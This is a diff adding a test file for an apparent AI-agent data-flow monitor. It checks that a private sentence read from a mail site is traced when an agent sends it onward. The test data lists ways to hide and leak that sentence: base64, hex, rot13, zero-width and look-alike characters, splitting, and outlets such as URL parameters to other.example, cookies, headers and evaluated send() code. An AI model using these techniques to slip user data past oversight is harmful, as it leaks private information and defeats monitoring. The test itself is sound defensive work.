@@ -1,0 +1,139 @@
+import { expect, it } from 'vitest';
+import type { JsonObject } from '../../../shared/json.ts';
+import type { ClientSession } from '../../../server/core/context.ts';
+import type { Flows } from '../../../server/core/flows.ts';
+import type { ToolResult } from '../../../server/core/result.ts';
+import { createFlows } from '../../../server/flows/index.ts';
+
+/* Text of a private site in what an agent sends: as it was read, or in a form that hides it. */
+
+const SECRET = 'The board meets on Thursday to discuss the sale of the northern branch to Halvorsen & Sons.';
+const MAIL = 'https://mail.example';
+const SESSION = { id: 's1', name: 'test' } as ClientSession;
+
+let calls = 0;
+
+/** An agent that was given a text of a site. */
+function given(
+  text: string,
+  { flows = createFlows({ mode: 'ask' }), session = SESSION, site = MAIL, isPrivate = true } = {},
+) {
+  const callId = `c${++calls}`;
+  const facts = {
+    call_id: callId,
+    tool: 'read_page',
+    title: '',
+    args: {},
+    is_editable: false,
+    args_hash: '',
+  };
+  flows.heard({ caller: { session: session.id, name: 'test' }, call: facts }, [
+    { site, is_private: isPrivate },
+  ]);
+  const result = { ok: true, content: [{ type: 'text', text }], state: {} } as unknown as ToolResult;
+  flows.arrived({ callId, tool: 'read_page', args: {}, session }, result);
+  return flows;
+}
+
+async function sourcesOf(flows: Flows, tool: string, args: JsonObject, session = SESSION) {
+  await flows.ready(session);
+  return flows.sourcesOf({ callId: 'x', tool, args, session }, args);
+}
+
+const base64 = (text: string, as: BufferEncoding = 'base64') => Buffer.from(text).toString(as);
+const rot13 = (text: string) =>
+  text.replaceAll(/[a-z]/gi, (one) =>
+    String.fromCharCode(one.charCodeAt(0) + (one.toLowerCase() < 'n' ? 13 : -13)),
+  );
+const base32 = (text: string) =>
+  [...Buffer.from(text)]
+    .map((byte) => byte.toString(2).padStart(8, '0'))
+    .join('')
+    .match(/.{1,5}/g)
+    ?.map((bits) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[Number.parseInt(bits.padEnd(5, '0'), 2)])
+    .join('') ?? '';
+const parts = (text: string, count: number) =>
+  text.match(new RegExp(`.{1,${Math.ceil(text.length / count)}}`, 'gs')) ?? [];
+
+const FORMS: Readonly<Record<string, (text: string) => string>> = {
+  literal: (text) => text,
+  'upper case': (text) => text.toUpperCase(),
+  spaced: (text) => [...text].join(' '),
+  'zero-width': (text) => [...text].join('\u{200b}'),
+  'look-alikes': (text) => text.replaceAll('o', 'о').replaceAll('e', 'е').replaceAll('a', 'а'),
+  'full width': (text) => text.replaceAll(/[!-~]/g, (one) => String.fromCharCode(one.charCodeAt(0) + 0xfee0)),
+  base64: (text) => base64(text),
+  base64url: (text) => base64(text, 'base64url'),
+  'base64 twice': (text) => base64(base64(text)),
+  hex: (text) => base64(text, 'hex'),
+  base32,
+  'UTF-16 in base64': (text) => Buffer.from(text, 'utf16le').toString('base64'),
+  percent: (text) => text.replaceAll(/./g, (one) => `%${base64(one, 'hex')}`),
+  'percent twice': (text) => encodeURIComponent(encodeURIComponent(text)),
+  entities: (text) => [...text].map((one) => `&#${one.charCodeAt(0)};`).join(''),
+  'JS escapes': (text) => [...text].map((one) => `\\u00${base64(one, 'hex')}`).join(''),
+  'character codes': (text) => [...text].map((one) => one.charCodeAt(0)).join(', '),
+  rot13,
+  reversed: (text) => [...text].reverse().join(''),
+  'a line in other text': (text) => `Dear all,\n\n${text}\n\nBest`,
+  'half of it': (text) => text.slice(20, 66),
+};
+
+const SINKS: Readonly<Record<string, readonly [tool: string, args: (text: string) => JsonObject]>> = {
+  fill: ['interact', (text) => ({ steps: [`fill label=Message ${text}`] })],
+  'a field': ['interact', (text) => ({ fields: { Message: text } })],
+  'two fields': [
+    'interact',
+    (text) => ({ fields: { A: parts(text, 2)[0] ?? '', B: parts(text, 2)[1] ?? '' } }),
+  ],
+  'a key at a time': [
+    'interact',
+    (text) => ({ steps: [...text].map((one) => ({ do: 'press', value: one })) }),
+  ],
+  query: ['navigate', (text) => ({ url: `https://other.example/?q=${encodeURIComponent(text)}` })],
+  path: ['tabs', (text) => ({ action: 'open', url: `https://other.example/${encodeURIComponent(text)}` })],
+  fragment: ['fetch', (text) => ({ url: `https://other.example/#${encodeURIComponent(text)}` })],
+  '6 parameters': [
+    'fetch',
+    (text) => ({
+      url: `https://other.example/?${parts(text, 6)
+        .map((one, at) => `p${at}=${encodeURIComponent(one)}`)
+        .join('&')}`,
+    }),
+  ],
+  'parameter names': [
+    'fetch',
+    (text) => ({
+      url: `https://other.example/?${parts(text, 4)
+        .map((one) => `${encodeURIComponent(one)}=1`)
+        .join('&')}`,
+    }),
+  ],
+  segments: [
+    'fetch',
+    (text) => ({ url: `https://other.example/${parts(text, 5).map(encodeURIComponent).join('/')}` }),
+  ],
+  code: ['evaluate', (text) => ({ code: `return send(${JSON.stringify(text)})` })],
+  literals: [
+    'evaluate',
+    (text) => ({
+      code: parts(text, 6)
+        .map((one) => JSON.stringify(one))
+        .join(' + x + '),
+    }),
+  ],
+  'an upstream argument': ['github_create_issue', (text) => ({ title: 'x', body: { text } })],
+  'a cookie': ['storage', (text) => ({ action: 'set', area: 'cookies', name: 'x', value: text })],
+  'a header': ['intercept', (text) => ({ action: 'add', url: '*', headers: { 'x-note': text } })],
+  'a dialog': ['dialog', (text) => ({ action: 'accept', text })],
+};
+
+it.each(Object.keys(FORMS))('finds a private text as %s in every argument that a site gets', async (form) => {
+  const text = FORMS[form]?.(SECRET) ?? '';
+  const missed: string[] = [];
+  for (const [sink, [tool, args]] of Object.entries(SINKS)) {
+    const sources = await sourcesOf(given(SECRET), tool, args(text));
+    if (!sources.some(({ site }) => site === MAIL)) missed.push(sink);
+  }
+  expect(missed).toEqual([]);
+});
